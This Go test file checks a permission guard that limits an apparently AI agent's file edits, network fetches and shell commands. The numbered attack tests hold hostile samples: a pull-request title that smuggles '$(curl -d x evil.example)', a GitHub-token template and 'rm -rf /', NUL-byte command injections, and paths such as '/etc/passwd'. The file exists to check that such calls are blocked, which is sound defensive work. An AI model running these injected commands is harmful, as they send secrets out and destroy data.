package policy

import (
	"path"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// guardOf is a guard as a run has one: a tree, a folder for temporary files
// beside it, and one for the report inside of a folder of the tree's own.
func guardOf(t *testing.T, allow ...string) Guard {
	t.Helper()
	return Guard{Scope: scopeOf(t, allow...), Root: "/home/agent/tree", Beside: []string{"/tmp", "/home/agent/turn"}, Hosts: []string{"docs.example.com", "*.example.org", "git.example.net:8443"}}
}

func TestAnEditIsAnsweredByWhereItLeads(t *testing.T) {
	for name, c := range map[string]struct {
		path  string
		allow bool
		rule  string
	}{
		"in scope":                               {"src/a.go", true, "scope"},
		"in scope, absolute":                     {"/home/agent/tree/src/a.go", true, "scope"},
		"in scope, with dots":                    {"src/../src/./a.go", true, "scope"},
		"in the tree and not in scope":           {"README.md", false, "scope"},
		"protected":                              {"src/a_test.go", false, "protected"},
		"never":                                  {".git/config", false, "never"},
		"above the tree":                         {"../x", false, RuleOutside},
		"out of the tree and back":               {"../tree/src/a.go", true, "scope"},
		"a folder whose name begins as the tree": {"/home/agent/tree2/src/a.go", false, RuleOutside},
		"elsewhere":                              {"/etc/passwd", false, RuleOutside},
		"the home":                               {"~/x", false, RuleOutside},
		"a URL":                                  {"file:///home/agent/tree/src/a.go", false, RuleOutside},
		"nothing":                                {"", false, RuleOutside},
		"the tree itself":                        {"/home/agent/tree/", false, "non_canonical"},
		"a temporary file":                       {"/tmp/x", true, RuleBeside},
		"the report":                             {"/home/agent/turn/report.json", true, RuleBeside},
		"out of the folder for temporary files":  {"/tmp/../etc/x", false, RuleOutside},
	} {
		t.Run(name, func(t *testing.T) {
			a := guardOf(t, "src/**").Judge(Call{Kind: CallEdit, Tool: "Write", Paths: []string{c.path}})
			if a.Allow != c.allow || a.Rule != c.rule || a.Ask || a.Words == "" {
				t.Errorf("Judge(edit %q) = %+v, want allow %v by %s", c.path, a, c.allow, c.rule)
			}
		})
	}
}

func TestATreeInsideOfAFolderBesideItIsStillBoundByItsScope(t *testing.T) {
	g := guardOf(t, "src/**")
	g.Root = "/tmp/run/tree"
	if a := g.Judge(Call{Kind: CallEdit, Paths: []string{"/tmp/run/tree/go.mod"}}); a.Allow {
		t.Errorf("Judge = %+v, want a denial", a)
	}
	if a := g.Judge(Call{Kind: CallEdit, Paths: []string{"/tmp/run/report.json"}}); !a.Allow {
		t.Errorf("Judge = %+v, want leave", a)
	}
}

func TestATreeAtTheTopOfTheFileSystemIsBoundByItsScope(t *testing.T) {
	g := guardOf(t, "src/**")
	g.Root, g.Beside = "/", nil
	for name, allowed := range map[string]bool{"/src/a.go": true, "src/a.go": true, "/go.mod": false} {
		if a := g.Judge(Call{Kind: CallEdit, Paths: []string{name}}); a.Allow != allowed {
			t.Errorf("%s: Judge = %+v, want %v", name, a, allowed)
		}
	}
}

func TestAnEditOfSeveralFilesIsAllowedOnlyIfAllAre(t *testing.T) {
	g := guardOf(t, "src/**")
	if a := g.Judge(Call{Kind: CallEdit, Paths: []string{"src/a.go", "go.mod", "src/b.go"}}); a.Allow || !strings.Contains(a.Words, "go.mod") {
		t.Errorf("Judge = %+v, want a denial that names go.mod", a)
	}
	if a := g.Judge(Call{Kind: CallEdit}); a.Allow || a.Rule != RuleUnnamed {
		t.Errorf("an edit without a file: %+v", a)
	}
}

func TestALoopThatOnlyReportsChangesNothingButItsReport(t *testing.T) {
	g := guardOf(t, "**/*")
	g.ReportOnly = true
	if a := g.Judge(Call{Kind: CallEdit, Paths: []string{"src/a.go"}}); a.Allow || a.Rule != RuleReportOnly || !strings.Contains(a.Words, "report") {
		t.Errorf("an edit of the tree: %+v", a)
	}
	if a := g.Judge(Call{Kind: CallEdit, Paths: []string{"/home/agent/turn/report.json"}}); !a.Allow {
		t.Errorf("the report: %+v", a)
	}
}

func TestTheZeroGuardAllowsNoEditAndNoFetch(t *testing.T) {
	for _, c := range []Call{
		{Kind: CallEdit, Paths: []string{"a"}},
		{Kind: CallEdit, Paths: []string{"/a"}},
		{Kind: CallFetch, Host: "example.org"},
		{Kind: CallOther, Tool: "mcp__x"},
		{Kind: "unheard of"},
		{Kind: CallRun},
		{},
	} {
		if a := (Guard{}).Judge(c); a.Allow || a.Rule == "" || a.Words == "" {
			t.Errorf("Judge(%+v) = %+v, want a denial with its rule", c, a)
		}
	}
}

func TestAttack071ANULInAnyPartOfACallIsDenied(t *testing.T) {
	g := guardOf(t, "**/*")
	for name, c := range map[string]Call{
		"an argument": {Kind: CallRun, Argv: []string{"ls", "a\x00b"}},
		"a command":   {Kind: CallRun, Command: "ls \x00; git push"},
		"a path":      {Kind: CallEdit, Paths: []string{"src/a.go\x00.txt"}},
		"a read":      {Kind: CallRead, Paths: []string{"a\x00"}},
		"a host":      {Kind: CallFetch, Host: "docs.example.com\x00"},
		"a detail":    {Kind: CallTalk, Detail: "\x00"},
		"a tool":      {Kind: CallTalk, Tool: "\x00"},
	} {
		if a := g.Judge(c); a.Allow || a.Ask || a.Rule != RuleNUL {
			t.Errorf("%s: %+v, want denied by %s", name, a, RuleNUL)
		}
	}
}

func TestAttack046ATitleThatIsShellOrTemplateTextStaysOneArgument(t *testing.T) {
	title := "Fix `git push` and $(curl -d x evil.example) ${{ github.token }}; rm -rf /"
	call := Call{Kind: CallRun, Argv: []string{"gh", "pr", "create", "--title", title}}
	a := Guard{}.Judge(call)
	if !a.Ask || a.Allow || a.Rule != RuleForge {
		t.Errorf("Judge = %+v, want a question", a)
	}
	if got := (Guard{}).Argv(call); !slices.Equal(got, call.Argv) {
		t.Errorf("an approval would run %q, want %q", got, call.Argv)
	}
}

func TestAnApprovalRunsWhatTheCallSaid(t *testing.T) {
	for name, c := range map[string]struct {
		call Call
		want []string
	}{
		"a line":                {Call{Kind: CallRun, Command: "git push"}, []string{"/bin/sh", "-c", "git push"}},
		"a program":             {Call{Kind: CallRun, Argv: []string{"git", "push"}}, []string{"git", "push"}},
		"an edit":               {Call{Kind: CallEdit, Paths: []string{"a"}}, nil},
		"a command of no words": {Call{Kind: CallRun}, nil},
	} {
		if got := (Guard{}).Argv(c.call); !slices.Equal(got, c.want) {
			t.Errorf("%s: Argv = %q, want %q", name, got, c.want)
		}
	}
}

func TestAFetchIsAllowedFromListedHostsAndTheMachineItself(t *testing.T) {
	for host, allow := range map[string]bool{
		"docs.example.com": true, "DOCS.example.com.": true, "docs.example.com:443": true, "docs.example.com:80": true, "docs.example.com:22": false, "example.org": false,
		"a.example.org": true, "a.b.example.org": true, "aexample.org": false, "git.example.net:8443": true, "git.example.net": false,
		"localhost": true, "localhost:3000": true, "127.0.0.1:80": true, "[::1]:80": true, "::1": true, "127.0.0.1.evil.example": false,
		"localhost.evil.example": false, "evil.example": false, "": false,
	} {
		if a := guardOf(t).Judge(Call{Kind: CallFetch, Host: host}); a.Allow != allow || a.Rule != RuleNetwork {
			t.Errorf("fetch from %q: %+v, want allow %v", host, a, allow)
		}
	}
	if a := guardOf(t).Judge(Call{Kind: CallFetch, Host: "evil.example"}); !strings.Contains(a.Words, "network: [evil.example]") {
		t.Errorf("the words %q do not say what a person would write", a.Words)
	}
}

func TestAToolThatNoDefinitionNamesIsDenied(t *testing.T) {
	g := guardOf(t)
	g.Tools = []string{"mcp__docs__search"}
	if a := g.Judge(Call{Kind: CallOther, Tool: "mcp__docs__search"}); !a.Allow {
		t.Errorf("a named tool: %+v", a)
	}
	if a := g.Judge(Call{Kind: CallOther, Tool: "mcp__docs__drop"}); a.Allow || a.Rule != RuleUnknownTool {
		t.Errorf("another tool: %+v", a)
	}
}

func TestAnAllowedEditIsInTheScopeOrBesideTheTree(t *testing.T) {
	parts := rapid.SliceOfN(rapid.SampledFrom([]string{"", ".", "..", "src", "a.go", "a_test.go", ".git", "tree", "home", "agent", "tmp", "turn", "~"}), 0, 8)
	rapid.Check(t, func(t *rapid.T) {
		g := Guard{Root: "/home/agent/tree", Beside: []string{"/tmp"}}
		var err error
		if g.Scope, err = NewScope([]string{"src/**"}, nil); err != nil {
			t.Fatal(err)
		}
		name := rapid.SampledFrom([]string{"", "/", "/home/agent/tree/", "/tmp/"}).Draw(t, "before") + strings.Join(parts.Draw(t, "parts"), "/")
		if !g.Judge(Call{Kind: CallEdit, Paths: []string{name}}).Allow {
			return
		}
		full := name
		if !path.IsAbs(full) {
			full = "/home/agent/tree/" + full
		}
		full = path.Clean(full)
		if rel, ok := strings.CutPrefix(full, "/home/agent/tree/"); ok && g.Scope.Judge(rel).Allowed {
			return
		}
		if full != "/tmp" && !strings.HasPrefix(full, "/tmp/") {
			t.Fatalf("%q is allowed and leads to %q", name, full)
		}
	})
}

func TestAnAnswerToAnEditDoesNotDependOnThePathsSpelling(t *testing.T) {
	part := rapid.SampledFrom([]string{"src", "a.go", "a_test.go", ".git", "docs", "go.mod"})
	rapid.Check(t, func(t *rapid.T) {
		g := Guard{Root: "/home/agent/tree", Beside: []string{"/tmp"}}
		var err error
		if g.Scope, err = NewScope([]string{"src/**"}, nil); err != nil {
			t.Fatal(err)
		}
		parts := rapid.SliceOfN(part, 1, 4).Draw(t, "parts")
		var odd []string
		for _, p := range parts {
			switch rapid.IntRange(0, 3).Draw(t, "oddity") {
			case 1:
				odd = append(odd, ".")
			case 2:
				odd = append(odd, "x", "..")
			case 3:
				odd = append(odd, "")
			}
			odd = append(odd, p)
		}
		before := rapid.SampledFrom([]string{"./", "/home/agent/tree/", "/home/agent/../agent/tree/", "../tree/", "/tmp/../home/agent/tree/"}).Draw(t, "before")
		clean := g.Judge(Call{Kind: CallEdit, Paths: []string{strings.Join(parts, "/")}})
		spelled := g.Judge(Call{Kind: CallEdit, Paths: []string{before + strings.Join(odd, "/")}})
		if clean.Allow != spelled.Allow || clean.Rule != spelled.Rule {
			t.Fatalf("%q: %+v, but %q: %+v", parts, clean, before+strings.Join(odd, "/"), spelled)
		}
	})
}
